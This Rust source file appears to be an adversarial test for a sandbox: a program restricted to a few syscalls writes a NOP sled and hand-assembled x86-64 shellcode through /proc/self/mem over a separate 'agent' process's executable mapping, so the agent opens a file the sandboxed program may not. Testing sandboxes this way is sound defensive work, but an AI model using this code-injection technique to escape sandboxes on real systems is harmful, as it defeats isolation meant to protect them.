//! A program in a sandbox that writes its own code over its agent's: what it may not call, the
//! agent may not call for it.

use crate::support::sys::check;
use crate::support::{Options, Region, Trouble, Verdict};
use crate::traps::allow_only;
use std::ops::Range;
use std::os::fd::IntoRawFd;
use std::os::unix::ffi::OsStrExt;

/// Where agents lie (SPEC.md, section 8).
const PLACES: Range<usize> = 0x2000_0000_0000..0x2a00_0000_0000;
const NO_OPERATION: u8 = 0x90;

/// In a sandbox, it grows until it has an agent, has that make the file `--file`, and goes on as
/// before.
pub fn takeover(options: &Options) -> Verdict {
    let program = Program::new(options)?;
    enter_sandbox()?;
    program.take_over(options)
}

/// It enters its sandbox when it has an agent, which was born outside.
pub fn takeover_in_sandbox(options: &Options) -> Verdict {
    let mut program = Program::new(options)?;
    program.grow_until_armed(options)?;
    enter_sandbox()?;
    program.take_over(options)
}

fn enter_sandbox() -> Verdict {
    allow_only(&[
        libc::SYS_pread64,
        libc::SYS_write,
        libc::SYS_pwrite64,
        libc::SYS_mprotect,
        libc::SYS_munmap,
        libc::SYS_sigaltstack,
        libc::SYS_exit_group,
    ])
}

struct Program {
    payload: Vec<u8>,
    maps: i32,
    /// All of its memory, which the kernel lets it write to whatever the rights are.
    memory: i32,
    region: Region,
    text: Vec<u8>,
}

impl Program {
    fn new(options: &Options) -> Result<Self, Trouble> {
        let file = options.file.as_ref().ok_or_else(|| Trouble::from("which --file?"))?;
        let payload = payload(file.as_os_str().as_bytes());
        let maps = std::fs::File::open("/proc/self/maps").map_err(|e| e.to_string())?;
        let memory = std::fs::File::options().write(true).open("/proc/self/mem");
        let memory = memory.map_err(|e| e.to_string())?.into_raw_fd();
        let region = Region::map(options.pages(), options.seed)?;
        let (maps, text) = (maps.into_raw_fd(), vec![0; 256 * 1024]);
        Ok(Program { payload, maps, memory, region, text })
    }

    /// Writes all of its memory again and again until there is an agent, and returns its code.
    fn grow_until_armed(&mut self, options: &Options) -> Result<Range<usize>, Trouble> {
        for generation in 0..options.accesses {
            self.region.fill(generation);
            self.region.check(generation)?;
            if let Some(code) = agent_code(self.maps, &mut self.text)? {
                return Ok(code);
            }
        }
        Err(Trouble::from("there is no agent"))
    }

    fn take_over(mut self, options: &Options) -> Verdict {
        let code = self.grow_until_armed(options)?;
        overwrite(self.memory, &code, &self.payload)?;
        for generation in 0..options.accesses {
            self.region.fill(generation);
            self.region.check(generation)?;
        }
        Ok(())
    }
}

/// `open(path, O_CREAT | O_WRONLY, 0644)`, and then nothing more.
fn payload(path: &[u8]) -> Vec<u8> {
    let mut code = vec![
        0xb8, 0x01, 0x01, 0x00, 0x00, // mov eax, openat
        0xbf, 0x9c, 0xff, 0xff, 0xff, // mov edi, AT_FDCWD
        0x48, 0x8d, 0x35, 0x11, 0x00, 0x00, 0x00, // lea rsi, [rip + 17]
        0xba, 0x41, 0x00, 0x00, 0x00, // mov edx, O_CREAT | O_WRONLY
        0x41, 0xba, 0xa4, 0x01, 0x00, 0x00, // mov r10d, 0644
        0x0f, 0x05, // syscall
        0xf3, 0x90, // pause
        0xeb, 0xfc, // jmp -4
    ];
    code.extend(path);
    code.push(0);
    code
}

/// The mapping with the agent's code, if there is one.
fn agent_code(maps: i32, text: &mut [u8]) -> Result<Option<Range<usize>>, Trouble> {
    let mut len = 0;
    loop {
        let rest = &mut text[len..];
        // SAFETY: reads into a live buffer of that length.
        let got = unsafe { libc::pread(maps, rest.as_mut_ptr().cast(), rest.len(), len as i64) };
        match check("pread", got as i64)? {
            0 => break,
            got => len += got as usize,
        }
    }
    let text = std::str::from_utf8(&text[..len]).map_err(|_| Trouble::from("maps is not text"))?;
    let number = |hex| usize::from_str_radix(hex, 16).ok();
    Ok(text.lines().filter(|line| line.contains(" r-xp ")).find_map(|line| {
        let (start, end) = line.split_once(' ')?.0.split_once('-')?;
        let range = number(start)?..number(end)?;
        PLACES.contains(&range.start).then_some(range)
    }))
}

/// Every instruction that the agent can come to next leads to the payload. (Its rights cannot be
/// changed by `mprotect`.)
fn overwrite(memory: i32, code: &Range<usize>, payload: &[u8]) -> Verdict {
    let mut bytes = vec![NO_OPERATION; code.len() - payload.len()];
    bytes.extend(payload);
    // SAFETY: reads from a live buffer of that length. Only the agent, another process, executes
    // what is written to.
    let written =
        unsafe { libc::pwrite64(memory, bytes.as_ptr().cast(), bytes.len(), code.start as i64) };
    match check("pwrite", written as i64)? {
        all if all as usize == bytes.len() => Ok(()),
        part => Err(format!("{part} bytes of {} were written", bytes.len()).into()),
    }
}
